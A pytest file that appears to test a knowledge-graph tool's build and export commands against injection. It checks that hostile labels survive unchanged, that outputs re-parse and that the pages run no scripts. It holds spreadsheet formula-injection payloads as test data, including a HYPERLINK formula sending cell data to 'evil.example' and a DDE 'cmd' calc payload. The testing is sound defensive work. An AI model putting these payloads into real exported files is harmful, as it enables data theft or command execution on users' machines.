"""Hostile text through every output of a real build, end to end.

One project whose records try to break out of each output (markup and scripts for HTML, formulas for
spreadsheets, quotes, backslashes and line separators for Turtle and JSON-LD), run through the real
commands: ``kg build``, ``kg query --format csv``, ``kg export`` (Turtle, N-Triples, JSON-LD, GraphML,
GEXF, CSV). Every text must come out exactly as written, every output must re-parse, no script may run
in the page, no cell may start a formula, and nothing may be written outside the chosen places.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pyoxigraph as ox
import pytest
import rdflib
from conftest import ONTOLOGY, record_json, run_kg, triples_of
from rdflib.compare import isomorphic
from test_site import Opened as SiteOpened
from test_viz import Opened

import kg
from kg.namespaces import SKOS

HOSTILE = Path(__file__).resolve().parent / "viz" / "hostile" / "records.yaml"

#: Labels aimed at spreadsheets and at Turtle/JSON-LD escaping (the HTML ones are in HOSTILE).
TRICKY = {
    "formula-eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(A1:A9)",
    "quotes": 'She said "yes" and \'no\' """ in triple quotes',
    "backslashes": "C:\\path\\to\\file \\n not a newline \\u0041",
    "separators": "line\u2028separator paragraph\u2029separator",
    "rtl": "\u202eevil\u202c and \u05e9\u05dc\u05d5\u05dd",
}


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile records, built with the real CLI, with every export written."""
    root = tmp_path_factory.mktemp("hostile-project")
    data = root / "data"
    data.mkdir()
    shutil.copy(HOSTILE, data / "hostile.yaml")
    people = [{"id": f"tricky-{key}", "type": "Person", "label": value, "sources": ["hostile-source"]}
              for key, value in TRICKY.items()]
    event = {"id": "tricky-event", "type": "Event", "label": "=cmd|' /C calc'!A0", "date": "2024-07-30",
             "online": "true", "sources": ["hostile-source"],
             "participants": [{"who": p["id"], "role": "speaker", "sources": ["hostile-source"]} for p in people]}
    # JSON is YAML, and json.dumps quotes every string, so none is read as anything but text.
    (data / "tricky.yaml").write_text(record_json([*people, event]), encoding="utf-8")
    shutil.copytree(ONTOLOGY, root / "ontology")
    before = _files(root)
    result = run_kg("build", cwd=root)
    assert result.returncode == 0, result.stderr.decode()
    for fmt, name in (("ttl", "export.ttl"), ("nt", "export.nt"), ("jsonld", "export.jsonld"),
                      ("graphml", "export.graphml"), ("gexf", "export.gexf"), ("csv", "export-csv")):
        result = run_kg("export", "--format", fmt, "-o", f"exports/{name}", cwd=root)
        assert result.returncode == 0, result.stderr.decode()
    result = run_kg("query", "-e", "SELECT ?entity ?label WHERE { ?entity skos:prefLabel ?label }",
                    "--format", "csv", "-o", "exports/labels.csv", cwd=root)
    assert result.returncode == 0, result.stderr.decode()
    written = _files(root) - before
    # Nothing outside the build folder and the files asked for.
    assert {p.parts[0] for p in written} == {"build", "exports"}, sorted(written)
    return root


def _files(root: Path) -> set[Path]:
    return {p.relative_to(root) for p in root.rglob("*") if p.is_file()}


def _every_text(sources: bool = True) -> set[str]:
    """Every label of the records (``sources=False``: not those of sources, which are no network nodes)."""
    import yaml

    texts = set(TRICKY.values()) | {"=cmd|' /C calc'!A0"}
    for record in yaml.safe_load(HOSTILE.read_text(encoding="utf-8")):
        if sources or record["type"] != "WebPage":
            texts.add(record["label"])
    return texts


def test_rdf_outputs_keep_every_text_and_reparse_in_two_parsers(project: Path) -> None:
    graph = kg.load(project / "data", project / "ontology")
    triples = set(graph.triples())
    ours = rdflib.Graph().parse(data=graph.serialize("nt").decode(), format="nt")
    labels = {str(t.object.value) for t in triples if t.predicate == ox.NamedNode(SKOS + "prefLabel")}
    assert _every_text() <= labels
    for name, oxf, rdf in (("kg.ttl", ox.RdfFormat.TURTLE, "turtle"), ("kg.nt", ox.RdfFormat.N_TRIPLES, "nt"),
                           ("kg.jsonld", ox.RdfFormat.JSON_LD, "json-ld")):
        for path in (project / "build" / name, project / "exports" / name.replace("kg.", "export.")):
            data = path.read_bytes()
            assert triples_of(ox.parse(data, format=oxf)) == triples, path
            assert isomorphic(ours, rdflib.Graph().parse(data=data.decode("utf-8"), format=rdf)), path


def test_network_files_keep_every_text(project: Path) -> None:
    from lxml import etree

    for name in ("export.graphml", "export.gexf"):
        tree = etree.parse(str(project / "exports" / name), etree.XMLParser(resolve_entities=False))
        texts = {str(t) for t in tree.xpath("//text() | //@*")}  # GEXF labels are attributes
        missing = {t for t in _every_text(sources=False) if t not in texts}
        assert not missing, (name, missing)


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for cell in row]


@pytest.mark.parametrize("name", ["labels.csv", "export-csv/nodes.csv", "export-csv/edges.csv"])
def test_no_csv_cell_starts_a_formula(project: Path, name: str) -> None:
    cells = _cells(project / "exports" / name)
    assert cells
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # only a plain number may start so
    if name != "export-csv/edges.csv":  # the labels themselves are there, defused
        for text in TRICKY.values():
            if text[0] in "=+-@":
                assert "'" + text in cells, text


def test_the_overview_page_runs_no_script_from_the_data(project: Path, browser) -> None:
    opened = Opened(browser, project / "build" / "overview.html")
    opened.check_clean()
    body = opened.js("document.body.textContent")
    assert "alert" not in opened.js("JSON.stringify(window.__ran)")
    assert opened.js("document.querySelectorAll('img, iframe, object, embed, svg image').length") == 0
    assert opened.js("document.querySelectorAll('[onerror], [onload], [onclick]').length") == 0
    for text in TRICKY.values():
        opened.page.fill("#kg-search", text)
        opened.page.press("#kg-search", "Enter")
        assert opened.js("document.getElementById('kg-search-result').textContent") == text
    assert body  # the page has drawn its legend and panels
    opened.check_clean()
    opened.page.close()


@pytest.mark.parametrize("page", ["index.html", "entity/img-person.html", "entity/script-org.html",
                                  "entity/hostile-event.html", "entity/tricky-event.html", "timeline.html",
                                  "charts.html", "model.html", "question/speakers.html"])
def test_the_site_shows_the_hostile_names_as_text_and_runs_no_script_from_them(project: Path, browser,
                                                                               page: str) -> None:
    # kg build writes the site (build/site/) from the same hostile records as the other outputs.
    site = project / "build" / "site"
    opened = SiteOpened(browser, site / page)
    opened.check_clean()
    assert [u for u in opened.requests if not u.startswith(site.as_uri() + "/")] == []
    js = opened.page.evaluate
    assert js("document.querySelectorAll('img, iframe, object, embed, svg image').length") == 0
    assert js("document.querySelectorAll('[onerror], [onload], [onclick]').length") == 0
    if page == "entity/tricky-event.html":
        body = js("document.body.innerText")
        for key, text in TRICKY.items():
            if key not in ("separators", "rtl"):  # innerText turns their separators into line breaks
                assert text in body, key
